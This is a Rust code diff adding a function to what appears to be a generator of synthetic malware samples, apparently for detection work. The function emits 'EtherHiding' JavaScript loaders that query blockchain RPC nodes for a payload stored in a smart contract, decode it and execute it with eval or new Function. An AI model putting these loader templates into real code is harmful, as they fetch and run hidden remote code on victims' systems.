@@ -234,3 +234,20 @@ pub(super) fn unseen(dice: &mut Dice, truth: &mut Truth) -> String {
     );
     out
 }
+
+/// EtherHiding: the next stage is asked of a contract, at one node of the chain after the other.
+pub(super) fn contract(dice: &mut Dice, truth: &mut Truth) -> String {
+    let mut out = junk(dice);
+    let urls: Vec<String> =
+        (0..1 + dice.below(3)).map(|_| truth.url(dice, &["", "/rpc", "/v1/mainnet"])).collect();
+    let list: Vec<String> = urls
+        .iter()
+        .map(|url| if dice.chance(60) { hide(dice, url, &mut out) } else { format!("'{url}'") })
+        .collect();
+    let (name, contract) = (veiled(dice), hex(&bytes(dice, 20)));
+    let form = dice.pick(&[
+        "const @NAME@ = [@LIST@];\nconst call = { jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x@CONTRACT@', data: '0x6d4ce63c' }, 'latest'] };\n(async () => {\n  for (const node of @NAME@) {\n    try {\n      const r = await fetch(node, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(call) });\n      const { result } = await r.json();\n      const code = Buffer.from(result.slice(130), 'hex').toString().replace(/\\0+$/, '');\n      eval(Buffer.from(code, 'base64').toString());\n      break;\n    } catch (e) {}\n  }\n})();\n",
+        "const axios = require('axios');\nasync function load(u) {\n  const { data } = await axios.post(u, { jsonrpc: '2.0', id: 56, method: 'eth_call', params: [{ to: '0x@CONTRACT@', data: '0x2cae8ae4' }, 'latest'] });\n  return Buffer.from(data.result.slice(2), 'hex').toString();\n}\nconst @NAME@ = [@LIST@];\n@NAME@.reduce((p, u) => p.catch(() => load(u)), Promise.reject()).then(c => new Function('require', c)(require)).catch(() => {});\n",
+    ]);
+    out + &put(form, &[("NAME", &name), ("LIST", &list.join(", ")), ("CONTRACT", &contract)])
+}
